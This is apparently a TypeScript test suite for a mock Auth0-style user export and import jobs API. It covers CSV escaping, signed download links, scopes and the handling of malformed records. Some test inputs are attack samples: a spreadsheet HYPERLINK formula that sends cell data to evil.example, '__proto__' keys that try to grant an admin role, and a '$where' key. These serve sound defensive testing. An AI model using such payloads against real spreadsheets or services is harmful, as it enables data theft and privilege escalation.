import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { createDownloadLinks } from '../src/admin/jobs/download-link.ts';
import { startTestInsole, type TestInsole } from './support/insole.ts';
import { api, m2mClientConfig, managementToken } from './support/management.ts';
import { download, exportThroughApi, finishedJob, postImport, seededUser, seedUsers, JOBS_SETTINGS } from './support/user-jobs.ts';

const ADMIN = { client_id: 'jobs-admin', client_secret: 'jobs-admin-secret-0123456789abcdef', scopes: ['read:users', 'create:users', 'update:users', 'delete:users'] };
const READER = { client_id: 'jobs-reader', client_secret: 'jobs-reader-secret-0123456789abcdef', scopes: ['read:users'] };
const CREATOR = { client_id: 'jobs-creator', client_secret: 'jobs-creator-secret-0123456789abcdef', scopes: ['create:users'] };
const LOGS = { client_id: 'jobs-logs', client_secret: 'jobs-logs-secret-0123456789abcdef', scopes: ['read:logs'] };
const CLIENTS = [ADMIN, READER, CREATOR, LOGS].map(m2mClientConfig);
const JOBS = JOBS_SETTINGS();

const IMPORTABLE = ['user_id', 'email', 'email_verified', 'name', 'nickname', 'given_name', 'family_name', 'picture', 'blocked', 'identities', 'user_metadata', 'app_metadata'];
const pick = (profile: Record<string, unknown>, keys: string[]) => Object.fromEntries(keys.filter((key) => key in profile).map((key) => [key, profile[key]]));

describe('users export and import jobs (Auth0 /api/v2/jobs)', () => {
  let insole: TestInsole;
  let admin: string;
  before(async () => {
    insole = await startTestInsole({ clients: CLIENTS, admin_api: JOBS });
    admin = (await managementToken(insole, ADMIN)).access_token;
  });
  after(() => insole.stop());

  test('an NDJSON export imports as it is into a fresh database, and the profiles come back the same', async () => {
    await seedUsers(insole.db, 40, (n) => seededUser(n, {
      email: `roundtrip${n}@innovashoes.example`, email_verified: n % 2 === 0, name: `Runner ${n}`, nickname: `runner${n}`,
      ...(n % 3 ? { given_name: `Given${n}`, family_name: `Family${n}` } : {}), blocked: n === 7,
      user_metadata: { shoe_size: 40 + (n % 6), preferences: { newsletter: n % 2 === 1, colours: ['red', 'blue'] } },
      app_metadata: { plan: n % 5 ? 'basic' : 'premium' },
    }));
    const { job, text } = await exportThroughApi(insole, admin, { format: 'json' });
    assert.equal(job.type, 'users_export');
    assert.equal(job.percentage_done, 100);
    const lines = text.trimEnd().split('\n');
    assert.equal(lines.length, 40, 'one user per line');
    const exported = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
    assert.ok(exported.every((user) => typeof user.created_at === 'string' && String(user.user_id).startsWith('auth0|')));

    const fresh = await startTestInsole({ clients: CLIENTS, admin_api: JOBS });
    try {
      const token = (await managementToken(fresh, ADMIN)).access_token;
      const created = await postImport(fresh, token, text);
      assert.equal(created.status, 202, JSON.stringify(created.body));
      assert.equal(created.body.type, 'users_import');
      assert.equal(created.body.status, 'pending');
      const done = await finishedJob(fresh, token, created.body.id);
      assert.deepEqual(done.summary, { failed: 0, updated: 0, inserted: 40, total: 40 });
      assert.equal((await api(fresh, token, 'GET', `/jobs/${created.body.id}/errors`)).status, 204);

      for (const original of exported) {
        const id = encodeURIComponent(String(original.user_id));
        const before = await api(insole, admin, 'GET', `/users/${id}`);
        const after = await api(fresh, token, 'GET', `/users/${id}`);
        assert.equal(after.status, 200, `${original.email} was imported under the same user_id`);
        assert.deepEqual(pick(after.body, IMPORTABLE), pick(before.body, IMPORTABLE));
      }
    } finally {
      await fresh.stop();
    }
  });

  test('an import of 1,000 records with exactly 5 bad ones reports those 5 and imports the other 995', async () => {
    const records: Record<string, unknown>[] = Array.from({ length: 1000 }, (_, i) => ({ email: `bulk${i}@InnovaShoes.example`, email_verified: true, name: `Bulk ${i}` }));
    const bad = new Map<number, { email: string; code: string }>([
      [17, { email: 'not-an-email', code: 'FORMAT' }],
      [250, { email: 'bulk250@innovashoes.example', code: 'OBJECT_ADDITIONAL_PROPERTIES' }],
      [400, { email: 'bulk400@innovashoes.example', code: 'ENUM_MISMATCH' }],
      [612, { email: 'bulk612@innovashoes.example', code: 'INVALID_TYPE' }],
      [999, { email: 'bulk3@innovashoes.example', code: 'DUPLICATED_USER' }],
    ]);
    records[17].email = 'not-an-email';
    records[250].favourite_colour = 'red';
    records[400].custom_password_hash = { algorithm: 'md5', hash: { value: '5f4dcc3b5aa765d61d8327deb882cf99', encoding: 'hex' } };
    records[612].name = 612;
    records[999].email = 'BULK3@innovashoes.example'; // the same address as record 3, in other case

    const created = await postImport(insole, admin, JSON.stringify(records));
    assert.equal(created.status, 202);
    const done = await finishedJob(insole, admin, created.body.id);
    assert.deepEqual(done.summary, { failed: 5, updated: 0, inserted: 995, total: 1000 });

    const errors = await api(insole, admin, 'GET', `/jobs/${created.body.id}/errors`);
    assert.equal(errors.status, 200);
    assert.deepEqual(errors.body.map((e: { index: number }) => e.index), [...bad.keys()]);
    for (const reported of errors.body as { index: number; user: { email: string }; errors: { code: string; message: string; path?: string }[] }[]) {
      const expected = bad.get(reported.index)!;
      assert.equal(reported.user.email.toLowerCase(), expected.email.toLowerCase());
      assert.ok(reported.errors.some((e) => e.code === expected.code), `record ${reported.index}: ${JSON.stringify(reported.errors)}`);
      assert.ok(reported.errors.every((e) => e.message.length > 0));
    }
    assert.ok(!JSON.stringify(errors.body).includes('5f4dcc3b5aa765d61d8327deb882cf99'), 'a refused hash is not echoed');
    const stored = await insole.db.collection('users').countDocuments({ email: { $in: records.map((_, i) => `bulk${i}@innovashoes.example`) } });
    assert.equal(stored, 995);
    assert.equal(await insole.db.collection('users').countDocuments({ email: 'bulk17@innovashoes.example' }), 0);
    const sample = await insole.db.collection('users').findOne({ email: 'bulk42@innovashoes.example' });
    assert.match(String(sample!.user_id), /^auth0\|[0-9a-f]{24}$/);
    assert.deepEqual(sample!.identities, [{ provider: 'auth0', user_id: String(sample!.user_id).slice(6), connection: 'Username-Password-Authentication', isSocial: false }]);
    assert.ok(sample!.created_at instanceof Date);
    assert.equal(sample!.password_hash, undefined, 'imported without a password: they set one by a reset');
    assert.equal(await insole.db.collection('user_jobs').countDocuments({ job_id: created.body.id, users_file: { $exists: true } }), 0, 'the uploaded file is dropped once the job ends');
  });

  test('an import record with a "__proto__" metadata key fails with its reason; the record after it is imported', async () => {
    const file = '[{"email":"proto.import@innovashoes.example","app_metadata":{"__proto__":{"roles":["admin"]},"plan":"basic"}},{"email":"proto.fine@innovashoes.example"}]';
    const job = await finishedJob(insole, admin, (await postImport(insole, admin, file)).body.id);
    assert.deepEqual(job.summary, { failed: 1, updated: 0, inserted: 1, total: 2 });
    const why = await api(insole, admin, 'GET', `/jobs/${job.id}/errors`);
    assert.equal(why.body[0].index, 0);
    assert.match(why.body[0].errors[0].message, /the key "__proto__" is not allowed/);
    assert.equal(await insole.db.collection('users').countDocuments({ email: 'proto.import@innovashoes.example' }), 0);
  });

  test('an import record escaping half a surrogate pair fails with its reason, rather than being stored as U+FFFD', async () => {
    const file = String.raw`[{"email":"surrogate.import@innovashoes.example","name":"Jos\ud800"},{"email":"surrogate.fine@innovashoes.example","name":"Jos\u00e9 \ud83d\udc5f"}]`;
    const job = await finishedJob(insole, admin, (await postImport(insole, admin, file)).body.id);
    assert.deepEqual(job.summary, { failed: 1, updated: 0, inserted: 1, total: 2 });
    const why = await api(insole, admin, 'GET', `/jobs/${job.id}/errors`);
    assert.deepEqual([why.body[0].index, why.body[0].errors[0].code], [0, 'INVALID_FORMAT']);
    assert.match(why.body[0].errors[0].message, /not Unicode/);
    assert.equal(await insole.db.collection('users').countDocuments({ email: 'surrogate.import@innovashoes.example' }), 0);
    assert.equal((await insole.db.collection('users').findOne({ email: 'surrogate.fine@innovashoes.example' }))!.name, 'José 👟');
  });

  test('upsert: an existing user (by email) gets the upsertable attributes of the record; without upsert the record fails', async () => {
    await insole.db.collection('users').insertOne(seededUser(5000, {
      email: 'upsert.me@innovashoes.example', email_verified: true, name: 'Before', nickname: 'before', given_name: 'Old',
      user_metadata: { keep: 'gone after upsert', size: 41 }, app_metadata: { plan: 'basic' },
    }) as never);
    const record = { email: 'Upsert.Me@innovashoes.example', user_id: 'someone-else', name: 'After', family_name: 'Newname', user_metadata: { size: 43 }, blocked: true };

    const refused = await finishedJob(insole, admin, (await postImport(insole, admin, JSON.stringify([record]))).body.id);
    assert.deepEqual(refused.summary, { failed: 1, updated: 0, inserted: 0, total: 1 });
    const why = await api(insole, admin, 'GET', `/jobs/${refused.id}/errors`);
    assert.equal(why.body[0].errors[0].code, 'DUPLICATED_USER');

    const created = await postImport(insole, admin, JSON.stringify([record]), { connection_id: 'Username-Password-Authentication', upsert: 'true', external_id: 'crm-sync-7' });
    assert.equal(created.body.upsert, true);
    assert.equal(created.body.external_id, 'crm-sync-7');
    const upserted = await finishedJob(insole, admin, created.body.id);
    assert.deepEqual(upserted.summary, { failed: 0, updated: 1, inserted: 0, total: 1 });
    const user = (await insole.db.collection('users').findOne({ email: 'upsert.me@innovashoes.example' }))!;
    assert.equal(user.user_id, 'auth0|seed5000', 'user_id is not upsertable');
    assert.equal(user.name, 'After');
    assert.equal(user.family_name, 'Newname');
    assert.equal(user.given_name, 'Old', 'absent attributes stay');
    assert.equal(user.nickname, 'before');
    assert.deepEqual(user.user_metadata, { size: 43 }, 'metadata is replaced in full, as Auth0 does');
    assert.deepEqual(user.app_metadata, { plan: 'basic' });
    assert.equal(user.blocked, false, 'blocked is not upserted (Auth0): blocking a user is update:users\' business');
    assert.equal(user.email_verified, false, 'Auth0: email_verified becomes false unless the record sets it');
  });

  test('CSV: a header row, then Auth0 escaping, so =, +, -, @ values reach a spreadsheet as text, not formulas', async () => {
    await insole.db.collection('users').insertOne(seededUser(6000, {
      email: 'formula@innovashoes.example', name: '=HYPERLINK("http://evil.example/?"&A1,"click")', given_name: '+1+2', family_name: '-2*3',
      nickname: '@SUM(A1:A9)', user_metadata: { note: '\tcmd', size: 42 }, logins_count: 3,
    }) as never);
    const { text } = await exportThroughApi(insole, admin, {
      format: 'csv', fields: [{ name: 'email' }, { name: 'name' }, { name: 'given_name' }, { name: 'family_name' }, { name: 'nickname', export_as: 'Nick' },
        { name: 'user_metadata.note' }, { name: 'user_metadata.size', export_as: 'size' }, { name: 'created_at' }, { name: 'logins_count' }, { name: 'email_verified' },
        { name: 'identities[0].connection', export_as: 'provider' }],
    });
    const rows = text.split('\r\n');
    assert.equal(rows.at(-1), '', 'every row ends with CRLF');
    assert.equal(rows[0], 'email,name,given_name,family_name,Nick,user_metadata.note,size,created_at,logins_count,email_verified,provider');
    const row = rows.find((line) => line.startsWith(`"'formula@`))!;
    assert.equal(row, [
      `"'formula@innovashoes.example"`, `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`, `"'+1+2"`, `"'-2*3"`, `"'@SUM(A1:A9)"`,
      `"'\tcmd"`, '42', new Date(Date.UTC(2024, 0, 1) + 6000 * 1000).toISOString(), '3', 'false', `"'Username-Password-Authentication"`,
    ].join(','));
    for (const cell of parseCsvRow(row).slice(1, 6)) assert.ok(!/^[=+\-@\t\r]/.test(cell), `${cell} cannot start a formula`);
  });

  test('an export of a social connection that is not configured (X turned off) has its users; an unknown connection is a 400', async () => {
    const xUser = (n: number) => seededUser(n, {
      email: `x.shopper${n}@innovashoes.example`, identities: [{ provider: 'twitter', user_id: `x${n}`, connection: 'twitter', isSocial: true }],
    });
    await insole.db.collection('users').insertMany([xUser(6500), xUser(6501)] as never[]);
    const { text } = await exportThroughApi(insole, admin, { format: 'json', fields: [{ name: 'email' }], connection_id: 'twitter' });
    assert.deepEqual(text.trimEnd().split('\n').map((line) => JSON.parse(line).email).sort(), ['x.shopper6500@innovashoes.example', 'x.shopper6501@innovashoes.example']);

    const unknown = await api(insole, admin, 'POST', '/jobs/users-exports', { connection_id: 'linkedin' });
    assert.equal(unknown.status, 400);
    assert.match(unknown.body.message, /^The connection does not exist: linkedin\. insole names connections: Username-Password-Authentication, google-oauth2, facebook, twitter\.$/);
    const imported = await postImport(insole, admin, '[{"email":"x.new@innovashoes.example"}]', { connection_id: 'twitter' });
    assert.equal(imported.status, 400, 'imports go into the database connection only');
    assert.match(imported.body.message, /must be a database connection/);
  });

  test('only the public profile can be exported: secret fields are refused and no hash reaches the file', async () => {
    await insole.db.collection('users').insertOne(seededUser(7000, { email: 'secret@innovashoes.example', password_hash: '$argon2id$v=19$m=19456,t=2,p=1$c2FsdHNhbHRzYWx0$aGFzaGhhc2hoYXNoaGFzaGhhc2g' }) as never);
    for (const name of ['password_hash', 'identities[0].sealed_tokens', 'identities.0.profileData', 'user_metadata']) {
      const refused = await api(insole, admin, 'POST', '/jobs/users-exports', { format: 'csv', fields: [{ name }] });
      assert.equal(refused.status, 400, name);
      assert.equal(refused.body.errorCode, 'invalid_body');
    }
    const { text } = await exportThroughApi(insole, admin, { format: 'json', fields: [{ name: 'email' }, { name: 'user_metadata' }, { name: 'identities' }] });
    assert.match(text, /secret@innovashoes\.example/);
    assert.doesNotMatch(text, /argon2|password_hash|sealed/);
  });

  test('two fields exported under one title are refused with a 400 naming it, in NDJSON and CSV, and no job is created', async () => {
    const jobsBefore = await insole.db.collection('user_jobs').countDocuments();
    const clashes = [
      { format: 'json', fields: [{ name: 'email' }, { name: 'user_metadata.email', export_as: 'email' }] },
      { format: 'json', fields: [{ name: 'user_metadata.size', export_as: 'size' }, { name: 'app_metadata.size', export_as: 'size' }] },
      { format: 'csv', fields: [{ name: 'name' }, { name: 'name' }] },
    ];
    for (const body of clashes) {
      const refused = await api(insole, admin, 'POST', '/jobs/users-exports', body);
      assert.equal(refused.status, 400, JSON.stringify(body));
      assert.equal(refused.body.errorCode, 'invalid_body');
      const title = body.fields[1].export_as ?? body.fields[1].name;
      assert.match(refused.body.message, new RegExp(`two fields are exported as "${title}"`));
    }
    assert.equal(await insole.db.collection('user_jobs').countDocuments(), jobsBefore);
    const swapped = await api(insole, admin, 'POST', '/jobs/users-exports', { format: 'json', fields: [{ name: 'email', export_as: 'name' }, { name: 'name', export_as: 'email' }] });
    assert.equal(swapped.status, 201, 'distinct titles, whatever the names');
  });

  test('a metadata key PATCH stores can be exported by name, in any script; a prototype name or a $ key is refused', async () => {
    await insole.db.collection('users').insertOne(seededUser(7100, { email: 'grosse@innovashoes.example', user_metadata: { 'größe': 42, 'shoe size': '44 EU' } }) as never);
    const fields = [{ name: 'email' }, { name: 'user_metadata.größe' }, { name: 'user_metadata.shoe size', export_as: 'size' }];
    const { text } = await exportThroughApi(insole, admin, { format: 'json', fields });
    assert.ok(text.split('\n').includes('{"email":"grosse@innovashoes.example","user_metadata.größe":42,"size":"44 EU"}'), text);
    const csv = await exportThroughApi(insole, admin, { format: 'csv', fields });
    assert.equal(csv.text.split('\r\n')[0], 'email,user_metadata.größe,size');
    assert.ok(csv.text.includes(`"'grosse@innovashoes.example",42,"'44 EU"`), csv.text);
    for (const name of ['user_metadata.constructor', 'app_metadata.a.__proto__', 'user_metadata.$where', 'user_metadata.a..b']) {
      const refused = await api(insole, admin, 'POST', '/jobs/users-exports', { fields: [{ name }] });
      assert.equal(refused.status, 400, name);
      assert.match(refused.body.message, /each key of a metadata path is one PATCH could store/, name);
    }
  });

  test('the location is a signed, short-lived link: tampered, borrowed or expired links are refused', async () => {
    const { job } = await exportThroughApi(insole, admin, { format: 'json', limit: 1 });
    const link = new URL(job.location!);
    assert.equal(link.origin, insole.issuer);
    assert.equal(link.pathname, `/api/v2/jobs/${job.id}/download`);
    const ok = await fetch(link);
    assert.equal(ok.status, 200);
    assert.equal(ok.headers.get('content-type'), 'application/gzip');
    assert.equal(ok.headers.get('content-disposition'), `attachment; filename="${job.id}.json.gz"`);

    const tampered = new URL(link);
    tampered.searchParams.set('signature', `${link.searchParams.get('signature')!.slice(0, -2)}AA`);
    const later = new URL(link);
    later.searchParams.set('expires', String(Number(link.searchParams.get('expires')) + 3600));
    const other = (await api(insole, admin, 'POST', '/jobs/users-exports', { format: 'csv', limit: 1 })).body.id as string;
    await finishedJob(insole, admin, other);
    const borrowed = new URL(link.href.replace(job.id, other));
    const expired = new URL(createDownloadLinks([insole.config.secrets.key_encryption_key], 60, () => Date.now() - 120_000).create(insole.issuer, job.id));
    for (const [what, url] of [['tampered', tampered], ['extended', later], ['borrowed', borrowed], ['expired', expired]] as const) {
      const res = await download(url.href);
      assert.equal(res.status, 403, what);
    }
    const unsigned = await fetch(`${insole.issuer}/api/v2/jobs/${job.id}/download`);
    assert.equal(unsigned.status, 400);
  });

  test('an instance moving off the development key encryption key (listed as previous) refuses download links signed with it: anyone can make one', async () => {
    const { job } = await exportThroughApi(insole, admin, { format: 'json', limit: 1 });
    const databaseUri = new URL(process.env.MONGODB_URI!);
    databaseUri.pathname = `/${insole.db.databaseName}`;
    const published = insole.config.secrets.key_encryption_key; // config/default.json's
    const rolled = await startTestInsole({ clients: CLIENTS, admin_api: JOBS, secrets: { key_encryption_key: 'the-key-encryption-key-after-the-development-one-0123', previous_key_encryption_keys: [published] } }, databaseUri.href);
    try {
      const forged = createDownloadLinks([published], 60).create(rolled.issuer, job.id);
      assert.equal((await download(forged)).status, 403, 'a link signed with the published key');
      const own = await finishedJob(rolled, (await managementToken(rolled, ADMIN)).access_token, job.id);
      assert.equal((await download(own.location!)).status, 200, 'the link the instance makes itself');
    } finally {
      await rolled.stop();
    }
  });

  test('bad uploads get a 4xx with a clear message, and no job', async () => {
    const before = await insole.db.collection('user_jobs').countDocuments();
    const cases: [string, Awaited<ReturnType<typeof postImport>>, number, RegExp][] = [
      ['empty file', await postImport(insole, admin, ''), 400, /must not be empty/],
      ['empty array', await postImport(insole, admin, '[]'), 400, /must not be empty/],
      ['not JSON', await postImport(insole, admin, '[{"email": '), 400, /not valid JSON/],
      ['not users', await postImport(insole, admin, '"hello"'), 400, /JSON array of users/],
      ['no connection', await postImport(insole, admin, '[{"email":"a@b.example"}]', {}), 400, /connection_id/],
      ['social connection', await postImport(insole, admin, '[{"email":"a@b.example"}]', { connection_id: 'con_0000000000000001' }), 400, /connection does not exist/],
      ['too large', await postImport(insole, admin, `[${'{"email":"big@innovashoes.example"},'.repeat(15_000)}{}]`), 413, /maximum allowed: 512000/],
      ['unknown part', await postImport(insole, admin, '[{"email":"a@b.example"}]', { connection_id: 'Username-Password-Authentication', users_extra: 'x' }), 400, /not allowed/],
    ];
    for (const [what, res, status, message] of cases) {
      assert.equal(res.status, status, `${what}: ${JSON.stringify(res.body)}`);
      assert.match(res.body.message, message, what);
    }
    const json = await api(insole, admin, 'POST', '/jobs/users-imports', { users: '[]', connection_id: 'Username-Password-Authentication' });
    assert.equal(json.status, 400);
    assert.match(json.body.message, /multipart/);
    assert.equal(await insole.db.collection('user_jobs').countDocuments(), before);
  });

  test('scope matrix: exports need read:users, imports create:users, an export is read with read:users only', async () => {
    const [reader, creator, logs] = await Promise.all([READER, CREATOR, LOGS].map(async (c) => (await managementToken(insole, c)).access_token));
    const exportBody = { format: 'json', limit: 1 };
    assert.equal((await api(insole, reader, 'POST', '/jobs/users-exports', exportBody)).status, 201);
    for (const token of [creator, logs]) {
      const refused = await api(insole, token, 'POST', '/jobs/users-exports', exportBody);
      assert.equal(refused.status, 403);
      assert.equal(refused.body.message, 'Insufficient scope, expected any of: read:users');
    }
    assert.equal((await api(insole, undefined, 'POST', '/jobs/users-exports', exportBody)).status, 401);

    const file = JSON.stringify([{ email: 'scoped@innovashoes.example' }]);
    const imported = await postImport(insole, creator, file);
    assert.equal(imported.status, 202);
    for (const token of [reader, logs]) assert.equal((await postImport(insole, token, file)).status, 403);
    assert.equal((await postImport(insole, undefined, file)).status, 401);

    const exported = (await api(insole, admin, 'POST', '/jobs/users-exports', exportBody)).body.id as string;
    const matrix: [string, string | undefined, number][] = [
      [`/jobs/${exported}`, reader, 200], [`/jobs/${exported}`, creator, 403], [`/jobs/${exported}`, logs, 403], [`/jobs/${exported}`, undefined, 401],
      [`/jobs/${imported.body.id}`, reader, 200], [`/jobs/${imported.body.id}`, creator, 200], [`/jobs/${imported.body.id}`, logs, 403],
      [`/jobs/${exported}/errors`, creator, 403], [`/jobs/${imported.body.id}/errors`, logs, 403],
    ];
    await finishedJob(insole, admin, imported.body.id);
    for (const [path, token, status] of matrix) assert.equal((await api(insole, token, 'GET', path)).status, status, `${path} with ${token === reader ? 'read:users' : token === creator ? 'create:users' : token ? 'read:logs' : 'no token'}`);
    const missing = await api(insole, admin, 'GET', '/jobs/job_0000000000000000');
    assert.deepEqual(missing.body, { statusCode: 404, error: 'Not Found', message: 'The job does not exist.', errorCode: 'inexistent_job' });
    assert.equal((await api(insole, admin, 'GET', '/jobs/not-a-job')).status, 400);
  });

  test('creating a job is an audited API operation (sapi)', async () => {
    const created = await api(insole, admin, 'POST', '/jobs/users-exports', { format: 'csv', limit: 2, connection_id: 'Username-Password-Authentication' });
    assert.equal(created.body.connection, 'Username-Password-Authentication');
    assert.deepEqual(created.body.fields.map((f: { name: string }) => f.name).slice(0, 3), ['user_id', 'email', 'email_verified']);
    const log = await insole.db.collection('logs').findOne({ type: 'sapi', description: 'Create export users job' });
    assert.equal(log?.client_id, ADMIN.client_id);
  });
});

/** RFC 4180 fields of one row (quoted fields may hold commas and doubled quotes). */
function parseCsvRow(row: string): string[] {
  const cells: string[] = [];
  const pattern = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
  for (const match of row.matchAll(pattern)) {
    const raw = match[1];
    cells.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (match[2] === '') break;
  }
  return cells;
}
